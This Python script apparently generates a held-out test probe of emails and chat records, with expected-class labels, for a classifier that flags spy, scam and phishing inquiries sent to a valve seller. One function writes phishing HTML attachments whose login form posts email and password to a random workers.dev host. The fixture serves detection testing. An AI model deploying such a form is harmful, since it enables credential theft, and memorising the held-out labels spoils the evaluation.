"""Regenerate the held-out probe: `python tests/data/heldout_probe/make_probe.py`.

A small probe written by hand (texts_mail.py, texts_chat.py) to look at the product the way its
held-out judge will: mail of kinds, years and providers the dev corpora lack, and short chat records
in many languages. Nothing in it is copied or adapted from ../shared/corpora. This script dresses
each mail text in its provider's header chain (providers.py) plus the seller's MX hop, writes the
.eml files, chat.jsonl and labels.toml (expected class: genuine / spy / scam / phishing; `ham` items
are class genuine: legitimate mail that must not be flagged). Deterministic: seeded by item name.
"""

from __future__ import annotations

import base64
import hashlib
import json
import random
import sys
from datetime import datetime, timedelta, timezone
from email.header import Header
from email.utils import format_datetime
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))

from providers import PROVIDERS, b64, hexs, rfc  # noqa: E402
from texts_chat import CHAT  # noqa: E402
from texts_fresh import FRESH_CHAT, FRESH_MAIL  # noqa: E402
from texts_mail import MAIL  # noqa: E402

for _item in FRESH_MAIL + FRESH_CHAT:
    _item["part"] = "fresh"
MAIL = MAIL + FRESH_MAIL
CHAT = CHAT + FRESH_CHAT

SELLER = "hengda-valves.com"
SELLER_MX = "mx1.hengda-valves.com"
SELLER_MX_IP = "47.99.12.83"  # Alibaba Cloud, Hangzhou
TO = "sales@hengda-valves.com"


def parse_date(text: str) -> datetime:
    """'2026-11-24 10:05 +0100' -> aware datetime."""
    day, clock, off = text.split()
    sign = 1 if off[0] == "+" else -1
    tz = timezone(sign * timedelta(hours=int(off[1:3]), minutes=int(off[3:5])))
    return datetime.fromisoformat(f"{day}T{clock}").replace(tzinfo=tz)


def header(name: str, value: str) -> str:
    try:
        value.encode("ascii")
        return f"{name}: {value}"
    except UnicodeEncodeError:
        return f"{name}: " + Header(value, "utf-8").encode(maxlinelen=76)


def address(display: str, addr: str) -> str:
    if not display:
        return addr
    try:
        display.encode("ascii")
        return f'"{display}" <{addr}>' if any(c in display for c in ",.;") else f"{display} <{addr}>"
    except UnicodeEncodeError:
        return Header(display, "utf-8").encode() + f" <{addr}>"


def attachment_part(r: random.Random, name: str, boundary: str) -> str:
    ext = name.rsplit(".", 1)[-1].lower()
    ctype = {"html": "text/html", "htm": "text/html", "shtml": "text/html", "zip": "application/zip",
             "rar": "application/x-rar-compressed", "7z": "application/x-7z-compressed", "iso": "application/x-iso9660-image",
             "img": "application/octet-stream", "pdf": "application/pdf", "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
             "svg": "image/svg+xml", "ics": "text/calendar"}.get(ext, "application/octet-stream")
    if ext in ("html", "htm", "shtml", "svg"):
        payload = (f"<html><head><meta charset='utf-8'><title>Document</title></head><body>"
                   f"<form action='https://{hexs(r, 6)}.workers.dev/{hexs(r, 10)}' method='post'>"
                   f"<input name='email' value=''><input type='password' name='pass'></form>"
                   f"<script>var a=atob('{b64(r, 60)}');</script></body></html>").encode()
    elif ext == "pdf":
        payload = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    else:
        payload = bytes(r.getrandbits(8) for _ in range(600))
    data = base64.encodebytes(payload).decode()
    return (f"--{boundary}\nContent-Type: {ctype}; name=\"{name}\"\nContent-Disposition: attachment; filename=\"{name}\"\n"
            f"Content-Transfer-Encoding: base64\n\n{data}")


def build(item: dict) -> bytes:
    r = random.Random(hashlib.sha256(item["name"].encode()).hexdigest())
    sent = parse_date(item["date"])
    frm_display, frm_addr = item["from"]
    domain = frm_addr.split("@", 1)[1]
    client_ip = item.get("ip", "")
    provider = PROVIDERS[item["p"]]
    prov_hdrs, (hop_host, hop_rdns, hop_ip), msgid, extra = provider(r, sent, frm_addr, domain, client_ip)
    arrive = sent + timedelta(seconds=r.randint(2, 9))
    cst = timezone(timedelta(hours=8))
    top = [f"Return-Path: <{item.get('envelope', frm_addr)}>", f"Delivered-To: {TO}",
           f"Received: from {hop_host} ({hop_rdns.rstrip('.')} [{hop_ip}])\n\tby {SELLER_MX} (Postfix) with ESMTPS id {hexs(r, 10).upper()}\n"
           f"\tfor <{TO}>; {rfc(arrive, cst)}"]
    auth = item.get("auth", {})
    spf = auth.get("spf", "pass")
    dk = auth.get("dkim", "pass" if prov_hdrs and any(h.startswith("DKIM-Signature") for h in prov_hdrs) else "none")
    dmarc = auth.get("dmarc", "pass" if spf == "pass" and dk == "pass" else "none")
    top.append(f"Authentication-Results: {SELLER_MX};\n\tdkim={dk} header.d={domain};\n\tspf={spf} (sender IP is {hop_ip}) "
               f"smtp.mailfrom={item.get('envelope', frm_addr).split('@')[-1]};\n\tdmarc={dmarc} header.from={domain}")
    lines = top + [h.replace("{to}", TO) for h in prov_hdrs]
    body = item["body"].strip("\n") + "\n"
    lines += [header("From", address(frm_display, frm_addr)) if not any(ord(c) > 127 for c in frm_display)
              else "From: " + address(frm_display, frm_addr),
              f"To: {item.get('to', TO)}", header("Subject", item["subj"]), f"Date: {format_datetime(sent)}",
              f"Message-ID: {item.get('msgid', msgid)}"]
    if item.get("reply_to"):
        lines.append(f"Reply-To: {item['reply_to']}")
    for h in item.get("headers", []):
        lines.append(h)
    lines += [e.replace("{subject}", item["subj"] if all(ord(c) < 128 for c in item["subj"]) else "inquiry") for e in extra]
    lines.append("MIME-Version: 1.0")
    html_body = item.get("html")
    attach = item.get("attach", [])
    alt = hexs(r, 28)
    if html_body:
        text_part = (f"--{alt}\nContent-Type: text/plain; charset=\"UTF-8\"\nContent-Transfer-Encoding: base64\n\n"
                     + base64.encodebytes(body.encode()).decode()
                     + f"--{alt}\nContent-Type: text/html; charset=\"UTF-8\"\nContent-Transfer-Encoding: base64\n\n"
                     + base64.encodebytes(html_body.encode()).decode() + f"--{alt}--\n")
        inner = f"Content-Type: multipart/alternative; boundary=\"{alt}\"\n\n{text_part}"
    else:
        inner = ("Content-Type: text/plain; charset=\"UTF-8\"\nContent-Transfer-Encoding: base64\n\n"
                 + base64.encodebytes(body.encode()).decode())
    if attach:
        mix = hexs(r, 28)
        lines.append(f"Content-Type: multipart/mixed; boundary=\"{mix}\"")
        out = "\n".join(lines) + "\n\n" + f"--{mix}\n{inner}\n" + "".join(attachment_part(r, a, mix) for a in attach) + f"--{mix}--\n"
    else:
        out = "\n".join(lines) + "\n" + inner
    return out.encode("utf-8")


def write_part(here: Path, mail: list, chat: list, header: str, default_part: str) -> None:
    """One probe part into `here`: each mail as .eml (dressed by build), the chat records as chat.jsonl,
    and labels.toml (its comment `header`; an item without a part is `default_part`). Every part's writer."""
    labels = []
    names: set[str] = set()
    for item in mail:
        assert item["name"] not in names, item["name"]
        names.add(item["name"])
        (here / f"{item['name']}.eml").write_bytes(build(item))
        labels.append((item["name"] + ".eml", item))
    with (here / "chat.jsonl").open("w", encoding="utf-8") as out:
        for rec in chat:
            assert rec["id"] not in names, rec["id"]
            names.add(rec["id"])
            fields = {k: v for k, v in rec.items() if k not in ("cls", "lang", "kind", "signals", "note", "part")}
            out.write(json.dumps(fields, ensure_ascii=False) + "\n")
            labels.append(("chat.jsonl#" + rec["id"], rec))
    with (here / "labels.toml").open("w", encoding="utf-8") as out:
        out.write(header)
        for key, item in labels:
            out.write(f'\n["{key}"]\nclass = "{item["cls"]}"\nlang = "{item["lang"]}"\nkind = "{item["kind"]}"\n')
            if item.get("signals"):
                out.write(f'signals = "{item["signals"]}"\n')
            out.write(f'part = "{item.get("part", default_part)}"\n')
    print(f"{len(mail)} mails, {len(chat)} chat records")


def main() -> None:
    write_part(HERE, MAIL, CHAT,
               "# Expected verdict class per probe item (written by make_probe.py). class: genuine / spy / scam /\n"
               "# phishing; kind: inquiry, ham (legitimate non-inquiry mail), or the lure's family; signals = \"full\"\n"
               "# marks a genuine inquiry with quantity, model and destination (grade must be A or B); part: \"first\"\n"
               "# (written first; its misses led to the general fixes) or \"fresh\" (written after them, never tuned on).\n",
               "first")


if __name__ == "__main__":
    main()
